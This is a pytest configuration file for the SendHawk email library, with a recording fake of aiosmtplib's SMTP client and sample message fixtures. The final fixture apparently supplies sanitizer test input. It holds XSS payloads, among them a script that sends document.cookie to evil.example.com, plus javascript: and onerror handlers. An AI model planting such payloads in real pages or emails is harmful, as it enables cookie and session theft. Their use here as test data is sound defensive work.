# =============================================================================
# Pytest Configuration and Fixtures
# =============================================================================
# Shared fixtures for the SendHawk test suite.
#
# Most SMTP tests don't talk to a real server. The `smtp_server` fixture swaps
# aiosmtplib.SMTP for a recording fake: every protocol call made by the
# transport is appended to `smtp_server.commands`, and any call can be made
# to fail by putting an aiosmtplib exception into `smtp_server.failures`.
# test_smtp_live.py covers the same paths against a local aiosmtpd server.
# =============================================================================

import aiosmtplib
import pytest

from sendhawk.core import Attachment, Message


class FakeSMTPServer:
    """
    Scripted server state shared by every FakeSMTP client.

    Attributes:
        extensions: EHLO keywords the server advertises (lower case).
        failures: Maps a command name ("auth_plain") or a command with its
                  argument (("rcpt", "bad@example.com")) to the exception
                  that call should raise.
        commands: Every call made, as tuples: ("mail", "a@example.com").
        clients: Every FakeSMTP created, with the kwargs it was built with.
    """

    def __init__(self) -> None:
        self.extensions = {"starttls", "auth", "8bitmime"}
        self.failures: dict = {}
        self.commands: list[tuple] = []
        self.clients: list["FakeSMTP"] = []

    def command_names(self) -> list[str]:
        return [command[0] for command in self.commands]

    def sent_data(self) -> bytes:
        for command in self.commands:
            if command[0] == "data":
                return command[1]
        raise AssertionError("DATA was never sent")


class FakeSMTP:
    """Stands in for aiosmtplib.SMTP; records instead of talking."""

    def __init__(self, server: FakeSMTPServer, **kwargs) -> None:
        self.server = server
        self.kwargs = kwargs
        self.is_connected = False

    def _record(self, name: str, *args) -> None:
        self.server.commands.append((name, *args))
        failure = self.server.failures.get((name, *args)) or self.server.failures.get(name)
        if failure is not None:
            raise failure

    async def connect(self) -> None:
        self._record("connect")
        self.is_connected = True

    async def ehlo(self) -> None:
        self._record("ehlo")

    def supports_extension(self, name: str) -> bool:
        return name.lower() in self.server.extensions

    async def starttls(self, **kwargs) -> None:
        self._record("starttls")

    async def auth_plain(self, username: str, password: str) -> None:
        self._record("auth_plain", username, password)

    async def auth_crammd5(self, username: str, password: str) -> None:
        self._record("auth_crammd5", username, password)

    async def mail(self, sender: str) -> None:
        self._record("mail", sender)

    async def rcpt(self, recipient: str) -> None:
        self._record("rcpt", recipient)

    async def data(self, message: bytes) -> None:
        self._record("data", message)

    async def quit(self) -> None:
        self._record("quit")
        self.is_connected = False

    def close(self) -> None:
        self.server.commands.append(("close",))
        self.is_connected = False


@pytest.fixture
def smtp_server(monkeypatch):
    """Replace aiosmtplib.SMTP with a recording fake."""
    server = FakeSMTPServer()

    def factory(**kwargs):
        client = FakeSMTP(server, **kwargs)
        server.clients.append(client)
        return client

    monkeypatch.setattr(aiosmtplib, "SMTP", factory)
    monkeypatch.delenv("APP_ENV", raising=False)
    return server


@pytest.fixture
def sample_attachment():
    """A small text attachment."""
    return Attachment("notes.txt", b"These are the meeting notes.\n")


@pytest.fixture
def sample_message(sample_attachment):
    """A message using every field."""
    return Message(
        sender="sender@example.com",
        to=["recipient@example.com"],
        cc=["cc@example.com"],
        bcc=["bcc@example.com"],
        reply_to="replyto@example.com",
        subject="Test Subject",
        text="This is a test email body.",
        html="<p>This is a <b>test</b> email body.</p>",
        attachments=[sample_attachment],
    )


@pytest.fixture
def sample_html_email():
    """HTML body with the usual attack vectors mixed into normal markup."""
    return """
    <div class="header">
        <h1 onclick="steal()">Welcome to Our Newsletter!</h1>
    </div>
    <script>document.location = "https://evil.example.com/?c=" + document.cookie</script>
    <p>Hello <strong>User</strong>,</p>
    <ul>
        <li>Links: <a href="https://example.com">Click here</a></li>
        <li>Bad link: <a href="javascript:alert(1)">Don't click</a></li>
    </ul>
    <img src="https://example.com/logo.png" alt="Company Logo" onerror="alert(2)">
    """
